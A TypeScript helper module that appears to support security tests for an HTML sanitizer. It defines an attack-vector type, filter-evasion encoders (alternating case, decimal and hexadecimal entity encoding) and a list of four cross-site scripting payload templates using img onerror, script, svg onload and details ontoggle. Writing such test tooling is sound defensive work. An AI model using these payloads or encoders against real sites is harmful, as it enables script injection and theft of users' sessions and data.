/** An attack: what an attacker writes to have `code` run. `code` holds no quotes, spaces or angle brackets. */
export type Vector = (code: string) => string;

/** Every pair of two lists. */
export function pairs<A, B>(first: readonly A[], second: readonly B[]): [A, B][] {
  return first.flatMap((a) => second.map((b): [A, B] => [a, b]));
}

/** Each item of a list beside one of another, which is repeated for as long as it takes. */
export function beside<A, B>(first: readonly A[], second: readonly [B, ...B[]]): [A, B][] {
  return first.map((a, index) => [a, second[index % second.length] ?? second[0]]);
}

/** Capitals in turns: `sCrIpT`. */
export function mixedCase(text: string): string {
  return text.replace(/./gsu, (sign, index: number) =>
    index % 2 === 0 ? sign.toLowerCase() : sign.toUpperCase(),
  );
}

/** Every character as a decimal entity. */
export function decimal(text: string, end = ';'): string {
  return Array.from(text)
    .map((sign) => `&#${(sign.codePointAt(0) ?? 0).toString()}${end}`)
    .join('');
}

/** Every character as a hexadecimal entity. */
export function hexadecimal(text: string, zeros = ''): string {
  return Array.from(text)
    .map((sign) => `&#x${zeros}${(sign.codePointAt(0) ?? 0).toString(16)};`)
    .join('');
}

/** As an author would have to write it to have these very words between brackets or quotes. */
export function asWords(text: string): string {
  return text.replace(/\s+/gu, ' ').replace(/[!-/:-@[-`{-~]/gu, '\\$&');
}

/** Elements that run code when they are read, in the shortest forms that browsers take. */
export const sparks = [
  (code: string) => `<img src=x onerror=${code}>`,
  (code: string) => `<script>${code}</script>`,
  (code: string) => `<svg onload=${code}>`,
  (code: string) => `<details open ontoggle=${code}>`,
] as const satisfies Vector[];
